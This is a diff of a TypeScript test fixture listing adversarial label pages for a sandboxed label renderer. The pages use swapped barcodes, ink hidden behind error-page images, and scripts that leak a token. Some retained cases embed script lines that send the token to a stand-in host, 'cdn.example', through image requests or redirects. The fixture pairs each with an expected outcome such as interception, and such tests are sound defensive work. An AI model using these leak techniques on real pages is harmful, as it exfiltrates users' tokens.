@@ -1,7 +1,7 @@
 import bwip from 'bwip-js/node'
 import { code128, qrCode } from '../../../src/sandbox/label/symbols.ts'
 import type { Make } from '../../support/labelEnds.ts'
-import { bars, behind, html, label, labels, modules, picture, square } from './marketParts.ts'
+import { bars, behind, html, label, labels, picture, square } from './marketParts.ts'
 
 /**
  * Pages that were made to get through: with another order's code where nobody looks, with ink that is lost in a way of its
@@ -10,8 +10,10 @@ import { bars, behind, html, label, labels, modules, picture, square } from './m
 export interface SharpPage {
   readonly title: string
   readonly make: Make
-  /** What becomes of it, by itself and in a view of three: `printed`, a fault, or `held`: printed right, or not at all. */
+  /** What becomes of it: `printed`, a fault, or `held`: printed right, or not at all. */
   readonly comes: string
+  /** It has another order's code. */
+  readonly quotes: boolean
 }
 
 const all: readonly string[] = ['G8ADKBRF', 'LXFDFT', 'L8TKYG']
@@ -38,7 +40,7 @@ const scripted = (script: string) => (codes: readonly string[]) =>
 const worded = (more: string) => (codes: readonly string[]) =>
   html(codes.map((code) => label(code, bars(code), `${code}<br>${more}`)).join(''))
 
-const quoting: readonly SharpPage[] = [
+const quoting: readonly Omit<SharpPage, 'quotes'>[] = [
   {
     title: 'has the bars of another in negative',
     comes: 'label.wrong-code',
@@ -57,16 +59,6 @@ const quoting: readonly SharpPage[] = [
         codes,
         (code) =>
           `<div style="line-height:0">${square(code128(code, 72, 14))}<br>${square(code128(other(code), 72, 7))}</div>`,
-      ),
-  },
-  {
-    title: 'has bars that are another’s every two millimetres',
-    comes: 'held',
-    make: (codes) =>
-      labels(
-        codes,
-        (code) =>
-          `<div style="line-height:0">${[0, 1, 2, 3].map((row) => square(code128(row % 2 === 0 ? code : other(code), 72, 2))).join('<br>')}</div>`,
       ),
   },
   {
@@ -89,19 +81,9 @@ const quoting: readonly SharpPage[] = [
     make: beside((code) => barsOf('code128', `^FNC1${other(code)}`)),
   },
   {
-    title: 'has its own bars as GS1 writes them',
-    comes: 'printed',
-    make: (codes) => labels(codes, (code) => barsOf('code128', `^FNC1${code}`)),
-  },
-  {
     title: 'has the bars of another in Code 39',
     comes: 'label.wrong-code',
     make: beside((code) => barsOf('code39', other(code))),
-  },
-  {
-    title: 'has the square of another with a line break behind it',
-    comes: 'label.wrong-code',
-    make: beside((code) => square(qrCode(`${other(code)}\r\n`, 20))),
   },
   {
     title: 'has the square of another in a mirror',
@@ -145,7 +127,7 @@ const quoting: readonly SharpPage[] = [
   },
 ]
 
-const losing: readonly SharpPage[] = [
+const losing: readonly Omit<SharpPage, 'quotes'>[] = [
   {
     title: 'has its COD in a sprite that is gone',
     comes: 'view.incomplete',
@@ -157,11 +139,6 @@ const losing: readonly SharpPage[] = [
     make: worded('<b style="mask-image:url(/gone.svg#m)">COD 1.250.000</b>'),
   },
   {
-    title: 'has its COD behind a mask that is an error page',
-    comes: 'view.incomplete',
-    make: worded('<b style="mask-image:url(/error.png)">COD 1.250.000</b>'),
-  },
-  {
     title: 'has an error page for a picture in its drawing',
     comes: 'view.incomplete',
     make: worded('<svg width="80" height="20"><image href="/error.png" width="80" height="20"/></svg>'),
@@ -170,16 +147,6 @@ const losing: readonly SharpPage[] = [
     title: 'has an error page for a background',
     comes: 'view.incomplete',
     make: worded('<span style="display:block;width:20mm;height:5mm;background:url(/error.png)"></span>'),
-  },
-  {
-    title: 'has an error page for what its style writes',
-    comes: 'view.incomplete',
-    make: worded('<style>.c::after{content:url(/error.png)}</style><span class="c"></span>'),
-  },
-  {
-    title: 'has a button whose picture is an error page',
-    comes: 'view.incomplete',
-    make: worded('<input type="image" src="/error.png">'),
   },
   {
     title: 'has an error page for its style',
@@ -195,56 +162,9 @@ const losing: readonly SharpPage[] = [
         `<script>for (const e of document.querySelectorAll('.e')) { e.style.background = 'none'; const c = document.createElement('canvas'); c.width = c.height = 64; c.style.cssText = 'display:block;width:4mm;height:4mm'; e.append(c); const gl = c.getContext('webgl'); if (gl) { gl.clearColor(0, 0, 0, 1); gl.clear(gl.COLOR_BUFFER_BIT) } else { c.getContext('2d').fillRect(0, 0, 64, 64) } }</script>`,
       ),
   },
-  {
-    title: 'is made grey by a filter',
-    comes: 'printed',
-    make: (codes) => labels(codes, bars, '<style>.l{filter:grayscale(1)}</style>'),
-  },
-  {
-    title: 'is blended with its ground',
-    comes: 'printed',
-    make: (codes) => labels(codes, bars, '<style>.l>*{mix-blend-mode:multiply;opacity:.99}</style>'),
-  },
-  {
-    title: 'cuts its bars out of black',
-    comes: 'printed',
-    make: (codes) =>
-      labels(
-        codes,
-        (code) =>
-          `<div style="width:66mm;height:12mm;background:#000;clip-path:polygon(${modules(code)
-            .map(([x, w]) => {
-              const [from, to] = [`${x * 0.375 + 3}mm`, `${(x + w) * 0.375 + 3}mm`]
-              return `${from} 0,${from} 12mm,${to} 12mm,${to} 0`
-            })
-            .join(',')})"></div>`,
-      ),
-  },
-  {
-    title: 'has bars of shadows',
-    comes: 'held',
-    make: (codes) =>
-      labels(
-        codes,
-        (code) =>
-          `<i style="display:block;width:.375mm;height:12mm;margin-bottom:1mm;box-shadow:${modules(code)
-            .flatMap(([x, w]) => Array.from({ length: w }, (_, at) => `${(x + at) * 0.375 + 3}mm 0 #000`))
-            .join(',')}"></i>`,
-      ),
-  },
-  {
-    title: 'has its code in fields of a form',
-    comes: 'printed',
-    make: (codes) =>
-      labels(
-        codes,
-        (code) =>
-          `${bars(code)}<br><input readonly value="${code}" style="width:60mm"><textarea readonly>COD 1.250.000</textarea>`,
-      ),
-  },
 ]
 
-const keeping: readonly SharpPage[] = [
+const keeping: readonly Omit<SharpPage, 'quotes'>[] = [
   {
     title: 'says its address in words that nobody sees',
     comes: 'printed',
@@ -263,13 +183,6 @@ const keeping: readonly SharpPage[] = [
     ),
   },
   {
-    title: 'has its token in the paths of its links and in a letter',
-    comes: 'printed',
-    make: scripted(
-      "document.querySelectorAll('a').forEach((a, n) => { a.href = n % 2 ? 'mailto:a@b.vn?body=' + t : '/next/' + t + '#' + t; a.ping = '/p/' + t })",
-    ),
-  },
-  {
     title: 'has its token in a comment of its picture',
     comes: 'printed',
     make: scripted(
@@ -282,17 +195,13 @@ const keeping: readonly SharpPage[] = [
     make: scripted("new Image().src = 'https://' + t + '.cdn.example/a.png'"),
   },
   {
-    title: 'asks a host for a script that is named as its token',
-    comes: 'view.blocked-script',
-    make: scripted(
-      "document.head.append(Object.assign(document.createElement('script'), { src: '//' + t + '.cdn.example/a.js' }))",
-    ),
-  },
-  {
     title: 'goes on to a host that is named as its token',
     comes: 'service.intercepted',
     make: scripted("location = 'https://' + t + '.cdn.example/'"),
   },
 ]
 
-export const sharpPages: readonly SharpPage[] = [...quoting, ...losing, ...keeping]
+export const sharpPages: readonly SharpPage[] = [
+  ...quoting.map((page) => ({ ...page, quotes: true })),
+  ...[...losing, ...keeping].map((page) => ({ ...page, quotes: false })),
+]
